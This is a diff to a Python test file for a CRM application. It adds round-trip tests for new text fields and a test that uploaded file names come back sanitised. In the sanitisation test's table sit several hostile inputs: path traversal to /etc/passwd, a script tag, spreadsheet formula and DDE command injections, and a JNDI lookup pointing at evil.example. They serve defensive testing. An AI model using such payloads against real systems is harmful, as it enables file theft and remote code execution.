@@ -13,9 +13,11 @@ from crm import (
     consents,
     contacts,
     customers,
+    documents,
     exports,
     fields,
     interactions,
+    market,
     products,
     purchases,
     requisites,
@@ -27,7 +29,7 @@ from crm import (
 from crm.core.errors import Invalid
 from crm.customers import Filters
 from crm.exports import Form, Wish, records
-from tests.cast import DAY, Cast, a_customer, a_field
+from tests.cast import DAY, Cast, a_customer, a_document, a_field, a_supply, a_voice
 from tests.pages.screen import opened, rows
 
 TEXTS: Final = (
@@ -129,6 +131,26 @@ def _proof(cast: Cast, text: str) -> Written:
     return _read(cast, lambda u: consents.one(u, one)["proof"])
 
 
+def _document(cast: Cast, text: str) -> Written:
+    one = a_document(cast, a_customer(cast), note=text)
+    return _read(cast, lambda u: documents.chain(u, one)[0]["note"])
+
+
+def _supply(key: str) -> Writer:
+    def write(cast: Cast, text: str) -> Written:
+        of = a_customer(cast)
+        a_supply(cast, of, **({"competitor": "Rivals"} | {key: text[: market.LENGTHS[key]]}))
+        return _read(cast, lambda u: market.supplies(u, of)[0][key])
+
+    return write
+
+
+def _voice(cast: Cast, text: str) -> Written:
+    of = a_customer(cast)
+    a_voice(cast, of, text)
+    return _read(cast, lambda u: market.voices(u, of)[0]["text"])
+
+
 def _request(cast: Cast, text: str) -> Written:
     key = a_customer(cast, "mate")
     with cast.unit(cast.rep) as u:
@@ -205,6 +227,9 @@ WRITERS: Final[Mapping[str, Writer]] = {
     **{f"stages.{key}": _strategy(key) for key in ("strategy", "next_step")},
     "stages.reason": _stage_reason,
     "consents.proof": _proof,
+    "documents.note": _document,
+    **{f"supplies.{key}": _supply(key) for key in ("competitor", "product", "source")},
+    "voices.text": _voice,
     "change_requests.text": _request,
     "purchases.note": _purchase,
     "products.name": _product,
@@ -214,7 +239,7 @@ WRITERS: Final[Mapping[str, Writer]] = {
 }
 
 
-TOO_LONG: Final = {"a" * 200: {"contacts.position", "contacts.department", "products.name"}}
+TOO_LONG: Final = {"a" * 200: {"contacts.position", "contacts.department", "products.name", "supplies.competitor"}}
 """What is refused, and in which fields; everything else is taken."""
 
 
@@ -229,6 +254,32 @@ def test_a_text_comes_back_from_every_field_as_it_was_typed(cast, field):
         if again not in {text, text[:60]} and field not in TOO_LONG.get(text, ()):
             wrong[text] = again
     assert wrong == {}
+
+
+NEVER_IN_A_NAME: Final = set("/\\\u202e\u202c\u200b\ufeff\r\n\t\x00")
+CHANGED: Final = {
+    "../../../etc/passwd": "passwd",
+    "<script>alert('x')</script>": "script>",
+    '=HYPERLINK("http://evil.example","click")': 'evil.example","click")',
+    "+cmd|' /C calc'!A0": "C calc'!A0",
+    "${jndi:ldap://evil.example/x}": "x}",
+    "\u202ereversed\u202c": "reversed",
+    "zero\u200bwidth\u200dand\ufeffmark": "zerowidth\u200dandmark",
+    "a" * 200: "a" * 120,
+}
+"""Names of files that become others: a folder, a sign that turns the line round, one that nobody sees, too many."""
+
+
+@pytest.mark.parametrize("text", TEXTS)
+def test_a_files_name_is_kept_as_it_was_typed_where_that_is_harmless(cast, text):
+    key = a_customer(cast)
+    one = a_document(cast, key, name=text)
+    with cast.unit() as u:
+        name = documents.chain(u, one)[0]["name"]
+    assert not set(name) & NEVER_IN_A_NAME
+    assert name == CHANGED.get(text, text)
+    at = opened("customer", cast.keeper, id=key, tab="documents")
+    assert [row[0] for row in rows(at, "documents")] == [name]
 
 
 def _everybody(cast: Cast) -> None:
